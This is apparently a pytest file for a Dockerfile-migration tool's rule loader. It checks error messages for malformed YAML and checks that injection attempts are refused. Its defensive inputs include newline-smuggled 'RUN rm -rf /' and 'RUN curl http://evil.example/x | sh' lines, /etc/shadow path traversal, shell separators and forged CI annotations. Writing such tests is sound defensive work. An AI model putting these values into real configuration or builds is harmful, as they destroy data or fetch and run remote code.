"""Rule files: users extend and override them; malformed files get an error naming file and line."""

from __future__ import annotations

from pathlib import Path

import pytest

from migrator.api import migrate_text
from migrator.model import MigratorError, Options
from migrator.rules.loader import load_rules


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "rules.yaml"
    path.write_text(text)
    return path


@pytest.mark.parametrize(("text", "expected"), [
    ("images:\n  - match: python\n    ecosystem: [unclosed\n", ":3: invalid YAML"),
    ("images:\n  - match: foo\n    builder: foo:{version}-dev\n", ":2: image rule 'foo' needs 'ecosystem'"),
    ("images:\n  - match: foo\n    ecosystem: cobol\n", ":2: unknown ecosystem 'cobol'"),
    ("images:\n  - match: foo\n    ecosystem: go\n    colour: blue\n", ":2: unknown key(s) colour"),
    ("images:\n  - match: foo\n    ecosystem: go\n    builder: cgr.dev/x/go:latest\n", "without registry"),
    ("packages:\n  curl: curl\n", "'family' must be one of"),
    ("family: debian\npackages:\n  curl: {wrong: x}\n", "package 'curl'"),
    ("imagez: []\n", "unknown top-level key 'imagez'"),
    ("images:\n  - match: foo\n    ecosystem: go\n    version: 'go1'\n", "needs a regular expression with a group"),
    ("images:\n  - match: foo\n    ecosystem: go\n    version: 'go(1'\n", "not a regular expression"),
    ("- just\n- a list\n", ":1: a rules file must be a mapping"),
])
def test_malformed_rules_name_file_line_and_problem(tmp_path: Path, text: str, expected: str) -> None:
    path = write(tmp_path, text)
    with pytest.raises(MigratorError) as error:
        load_rules((path,))
    message = str(error.value)
    assert str(path) in message or path.name in message
    assert expected in message


def test_missing_rules_file(tmp_path: Path) -> None:
    with pytest.raises(MigratorError, match="not found"):
        load_rules((tmp_path / "nope.yaml",))


def test_user_image_rule_comes_first(tmp_path: Path) -> None:
    path = write(tmp_path, "images:\n  - match: registry.internal.example.com/platform/python-base\n"
                           "    ecosystem: python\n    builder: \"python:{version}-dev\"\n"
                           "    runtime: \"python:{version}\"\n")
    text = "FROM registry.internal.example.com/platform/python-base:2024.06\nCOPY . /app\nCMD [\"python\", \"/app/m.py\"]\n"
    assert "MIG202" in {f.code for f in migrate_text(text).findings}
    result = migrate_text(text, Options(rules_files=(path,)))
    assert result.dockerfile.startswith("FROM cgr.dev/chainguard/python:latest-dev AS builder\n")
    assert "\nFROM cgr.dev/chainguard/python:latest\n" in result.dockerfile


def test_user_package_entry_overrides_builtin(tmp_path: Path) -> None:
    path = write(tmp_path, "family: debian\npackages:\n  curl: [curl, wget]\n  acme-tool: [jq]\n")
    text = "FROM debian:12 AS b\nRUN apt-get install -y curl acme-tool\nFROM scratch\nCOPY --from=b /x /x\n"
    out = migrate_text(text, Options(rules_files=(path,))).dockerfile
    assert "apk add --no-cache curl wget jq" in out


def test_builtin_rules_cover_the_catalogue() -> None:
    rules = load_rules()
    assert len({r.match for r in rules.images}) >= 80
    assert len(rules.packages["debian"]) >= 300
    assert len(rules.packages["alpine"]) >= 150
    assert len(rules.packages["fedora"]) >= 150
    assert rules.image_facts("python").entrypoint == ("/usr/bin/python",)


# Issue 12, defect 11: a rules file (which a repository's .migrator.yaml can name) cannot inject
# instructions or lines into the output: every value is held to its grammar.
@pytest.mark.parametrize(("text", "expected"), [
    ('images:\n  - match: python\n    ecosystem: python\n    builder: "python:latest-dev\\nRUN rm -rf /"\n',
     "'builder': 'python:latest-dev\\nRUN rm -rf /' is not an image name without registry"),
    ('images:\n  - match: python\n    ecosystem: python\n    runtime: "python:{version} AS x"\n', "'runtime'"),
    ('images:\n  - match: python\n    ecosystem: python\n    runtime: "python:{tag}"\n', "{tag} is not a placeholder"),
    ('images:\n  - match: python\n    ecosystem: python\n    runtime: "Python:latest"\n', "'runtime'"),
    ('images:\n  - match: python\n    ecosystem: python\n    notes: "fine\\n::error::forged"\n', "is not one line of text"),
    ('images:\n  - match: "py thon"\n    ecosystem: python\n', "'match'"),
    ('family: debian\npackages:\n  libpq-dev: "libpq\\nRUN rm -rf /"\n', "package 'libpq-dev'"),
    ('family: debian\npackages:\n  libpq-dev: [libpq, "Curl"]\n', "is not a Wolfi package name"),
    ('family: debian\npackages:\n  libpq-dev: {to: ["lib pq"]}\n', "is not a Wolfi package name"),
    ('family: debian\npackages:\n  "a\\nb": libpq\n', "package name"),
    ('libraries:\n  libpq: ["/usr/lib/libpq.so.* /etc/shadow"]\n', "is not an absolute path"),
    ('libraries:\n  libpq: ["/usr/lib/../../etc/shadow"]\n', "is not an absolute path"),
    ('dev_packages:\n  libpq-dev: ["libpq;rm"]\n', "is not a Wolfi package name"),
    ('build_tools: ["gcc\\nRUN x"]\n', "build_tools"),
    ('chainguard:\n  python: {user: "root\\nRUN x"}\n', "user"),
    ('chainguard:\n  python: {workdir: "/app dir"}\n', "workdir"),
    ('chainguard:\n  python: {packages: ["glibc", "x y"]}\n', "packages"),
    # second adversarial round, B1: the other fields that reach the output
    ('upstream:\n  - match: python\n    workdir: "/srv\\nRUN curl http://evil.example/x | sh\\n#"\n', "workdir"),
    ('upstream:\n  - match: python\n    workdir: "/my app"\n', "workdir"),
    ('upstream:\n  - match: python\n    cmd: ["python", "a\\nRUN x"]\n', "cmd"),
    ('upstream:\n  - match: python\n    entrypoint: ["x"]\n    frobnicate: 1\n', "unknown key"),
    ('languages:\n  python: {programs: [python], builder: "python:latest-dev", '
     'runtime: "python:latest\\nRUN curl x | sh\\n#"}\n', "runtime"),
    ('languages:\n  python: {programs: [python], builder: "python:{version}-dev", runtime: "python:latest"}\n',
     "builder"),
    ('languages:\n  python: {programs: [python], builder: a, runtime: b, on_base: ["py thon"]}\n', "on_base"),
    ('dockerhub_paths:\n  /opt/tools:\n    why: x\n    env: {TOOLS: "/opt/tools\\nRUN curl x | sh\\n#"}\n', "TOOLS"),
    ('dockerhub_paths:\n  /opt/tools:\n    env: {"A B": x}\n', "variable name"),
    ('dockerhub_paths:\n  /opt/tools: "why\\n::error::forged"\n', "one line of text"),
    ('dockerhub_paths:\n  "/opt/my tools": why\n', "dockerhub_paths key"),
    ('chainguard:\n  python: {env: {A: "x\\nRUN y"}}\n', "env"),
    ('chainguard:\n  python: {env: {A: \'"quoted"\'}}\n', "env"),
    ('chainguard:\n  python: {shell_partner: "wolfi-base\\nRUN x"}\n', "shell_partner"),
    ('chainguard:\n  python: {paths: {site: "/x\\ny"}}\n', "paths"),
    ('chainguard:\n  python: {known: "yes"}\n', "known"),
    ('busybox_applets: [sh, "a b"]\n', "busybox_applets"),
])
def test_rules_values_that_could_inject_are_refused(tmp_path: Path, text: str, expected: str) -> None:
    path = write(tmp_path, text)
    with pytest.raises(MigratorError) as error:
        load_rules((path,))
    assert str(path) in str(error.value) and expected in str(error.value)


def test_a_rules_file_named_by_configuration_cannot_inject(tmp_path: Path) -> None:
    import subprocess
    import sys

    (tmp_path / "Dockerfile").write_text("FROM python:3.12-slim\nRUN apt-get update && apt-get install -y libpq-dev\n"
                                         "CMD [\"python\"]\n")
    (tmp_path / ".migrator.yaml").write_text("rules: [evil.yaml]\n")
    (tmp_path / "evil.yaml").write_text('family: debian\npackages:\n  libpq-dev: "libpq\\nRUN rm -rf /"\n')
    done = subprocess.run([sys.executable, "-m", "migrator", "Dockerfile"], cwd=tmp_path, capture_output=True,
                          text=True, timeout=60)
    assert done.returncode == 2 and done.stdout == "" and len(done.stderr.splitlines()) == 1
    assert "evil.yaml" in done.stderr and "RUN rm" not in done.stdout


def test_library_callers_get_the_same_option_checks() -> None:
    with pytest.raises(MigratorError, match="invalid registry"):
        migrate_text("FROM python:3.12\n", Options(registry="cgr.dev/a\nRUN rm -rf /"))


def test_the_compiled_rules_cache_keeps_every_field(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The cache holds a rule set as plain values: each field (and each record in it) must come back."""
    import marshal

    from migrator.rules import loader

    built = loader.RuleSet()
    for data, origin in loader._builtin_data():
        loader._merge(built, data, origin, override=False)
    assert loader._from_plain(marshal.loads(marshal.dumps(loader._to_plain(built)))) == built
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    monkeypatch.setattr(loader, "_cache", {})
    first = load_rules()  # built and stored
    monkeypatch.setattr(loader, "_cache", {})
    assert list((tmp_path / "migrator").glob("rules-*.marshal"))
    assert load_rules() == first == built  # read back


# Second adversarial round, C3: values of the wrong type are one line naming the file, not an internal error
@pytest.mark.parametrize(("text", "expected"), [
    ("languages: [1]\n", "languages: [1] is not a mapping"),
    ("languages: {py: {programs: 5, builder: a, runtime: b}}\n", "programs: 5 is not a list"),
    ("dockerhub_paths: [1]\n", "dockerhub_paths: [1] is not a mapping"),
    ("upstream: [{match: python, tags: 5}]\n", "tags: 5 is not a pattern"),
    ("upstream: [{match: python, entrypoint: 5}]\n", "entrypoint: 5 is not a list"),
    ("upstream: 5\n", "upstream: 5 is not a list"),
    ("images: [{match: python, ecosystem: python, tags: 5}]\n", "'tags': 5 is not a pattern"),
    ("images: 5\n", "images: 5 is not a list"),
    ("chainguard: [1]\n", "chainguard: [1] is not a mapping"),
    ("chainguard:\n  python: {paths: [1]}\n", "paths: [1] is not a mapping"),
    ("family: debian\npackages:\n  libpq-dev: {to: 5}\n", "is not a list of Wolfi package names"),
    ("a: " + "[" * 5000 + "]" * 5000 + "\n", "nested more than 64 levels deep"),
    ("x: &a [1, 2]\ny: [*a, *a]\n", "aliases are not allowed"),
])
def test_rules_values_of_the_wrong_type_are_one_line(tmp_path: Path, text: str, expected: str) -> None:
    path = write(tmp_path, text)
    with pytest.raises(MigratorError) as error:
        load_rules((path,))
    assert str(path) in str(error.value) and expected in str(error.value)
    assert "\n" not in str(error.value) and len(str(error.value)) < 400


def test_a_huge_wrong_value_is_shown_cut_short(tmp_path: Path) -> None:
    path = write(tmp_path, "busybox_applets: [" + ", ".join(["'a b'"] * 20000) + "]\n")
    with pytest.raises(MigratorError) as error:
        load_rules((path,))
    assert len(str(error.value)) < 400
